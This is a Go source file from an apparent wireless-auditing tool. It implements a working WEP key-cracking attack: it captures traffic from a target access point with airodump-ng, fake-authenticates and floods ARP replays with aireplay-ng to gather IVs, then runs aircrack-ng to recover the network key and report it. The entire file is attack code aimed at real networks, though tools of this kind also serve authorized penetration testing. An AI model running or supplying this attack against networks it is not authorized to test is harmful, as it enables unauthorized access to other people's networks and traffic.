package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"github.com/wlfwifi/wlfwifi/internal/result"
	"github.com/wlfwifi/wlfwifi/internal/tools"
	"github.com/wlfwifi/wlfwifi/pkg/wifi"
)

// ivPoll is how often the capture CSV is read for the IV count.
var ivPoll = 5 * time.Second

// WEPAttack collects IVs with an ARP replay and hands them to aircrack-ng
// once enough have been captured.
type WEPAttack struct {
	Lifecycle

	env    *Env
	target *wifi.Target

	mu      sync.Mutex
	capture *tools.CaptureSession
	replay  *tools.Process
	ivs     int
	result  *result.CrackResult
}

var _ Attack = (*WEPAttack)(nil)

func NewWEPAttack(env *Env, target *wifi.Target) *WEPAttack {
	return &WEPAttack{env: env, target: target}
}

func (w *WEPAttack) RunAttack(ctx context.Context) error {
	if err := w.Start(); err != nil {
		return err
	}
	tb := w.env.Tools
	switch {
	case tb.Airodump == nil || !tb.Airodump.Available():
		return fmt.Errorf("%w: airodump-ng", ErrToolMissing)
	case tb.Aireplay == nil || !tb.Aireplay.Available():
		return fmt.Errorf("%w: aireplay-ng", ErrToolMissing)
	case tb.Aircrack == nil || !tb.Aircrack.Available():
		return fmt.Errorf("%w: aircrack-ng", ErrToolMissing)
	}

	cfg := w.env.Config
	bssid := w.target.BSSID
	capture, err := tb.Airodump.StartCapture(ctx, w.env.Iface, bssid, w.target.Channel, cfg.TempDir, "wep")
	if err != nil {
		return err
	}
	w.mu.Lock()
	w.capture = capture
	w.mu.Unlock()

	src, err := hardwareAddr(w.env.Iface)
	if err != nil {
		return err
	}
	w.status("Fake authenticating...", -1)
	if err := tb.Aireplay.FakeAuth(ctx, w.env.Iface, bssid, src); err != nil {
		w.env.logf("[wep] %v", err)
	}
	replay, err := tb.Aireplay.ARPReplay(ctx, w.env.Iface, bssid, src)
	if err != nil {
		return fmt.Errorf("start arp replay: %w", err)
	}
	w.mu.Lock()
	w.replay = replay
	w.mu.Unlock()

	threshold := cfg.Attack.WEP.IVThreshold
	nextCrack := threshold

	timeout := time.NewTimer(cfg.Attack.WEP.Timeout)
	defer timeout.Stop()
	poll := time.NewTicker(ivPoll)
	defer poll.Stop()

	for {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-timeout.C:
			return fmt.Errorf("%w: %d IVs from %s after %s", ErrTimeout, w.IVs(), bssid, cfg.Attack.WEP.Timeout)
		case <-capture.Process().Done():
			return fmt.Errorf("capture for %s ended early: %v", bssid, capture.Process().Wait())
		case <-poll.C:
			ivs := w.readIVs(capture.CSVFile())
			w.status(fmt.Sprintf("%d IVs", ivs), min(float64(ivs)/float64(max(threshold, 1)), 1))
			if ivs < nextCrack {
				continue
			}
			key, err := tb.Aircrack.CrackWEP(ctx, capture.CapFile(), bssid)
			if err == nil {
				w.found(key)
				return nil
			}
			if !errors.Is(err, tools.ErrKeyNotFound) {
				w.env.logf("[wep] aircrack: %v", err)
			}
			nextCrack = ivs + threshold/2
		}
	}
}

// readIVs returns the latest IV count for the target, keeping the previous
// value when the CSV cannot be read.
func (w *WEPAttack) readIVs(csvPath string) int {
	targets, _, err := tools.ParseAirodumpCSV(csvPath)
	w.mu.Lock()
	defer w.mu.Unlock()
	if err != nil {
		return w.ivs
	}
	for _, t := range targets {
		if t.Is(w.target.BSSID) && t.IVs > w.ivs {
			w.ivs = t.IVs
		}
	}
	return w.ivs
}

func (w *WEPAttack) found(key string) {
	w.mu.Lock()
	w.result = &result.CrackResult{
		BSSID:      w.target.BSSID,
		ESSID:      w.target.ESSID,
		Key:        key,
		Encryption: w.target.Encryption,
		AttackType: "WEP replay",
		Timestamp:  time.Now(),
	}
	w.mu.Unlock()
	w.status("Key found: "+key, 1)
}

// EndAttack interrupts the replay and the capture, then removes the
// capture files and any .xor keystreams left behind.
func (w *WEPAttack) EndAttack(ctx context.Context) error {
	if !w.Stop() {
		return nil
	}
	w.mu.Lock()
	replay, capture, res := w.replay, w.capture, w.result
	w.mu.Unlock()

	if replay != nil {
		tools.SendInterrupt(replay)
		_ = replay.Stop()
	}
	if capture != nil {
		capture.Stop()
		capture.Cleanup()
	}
	if res != nil {
		res.Duration = result.Duration(w.Elapsed())
	}
	return nil
}

func (w *WEPAttack) Result() *result.CrackResult {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.result
}

// IVs is the highest IV count seen so far.
func (w *WEPAttack) IVs() int {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.ivs
}

func (w *WEPAttack) status(msg string, progress float64) {
	w.env.report(StatusUpdate{
		Attack:   "WEP",
		Target:   w.target.String(),
		Message:  msg,
		Progress: progress,
		Elapsed:  w.Elapsed(),
	})
}

func hardwareAddr(name string) (string, error) {
	ifi, err := net.InterfaceByName(name)
	if err != nil {
		return "", fmt.Errorf("lookup %s: %w", name, err)
	}
	return ifi.HardwareAddr.String(), nil
}
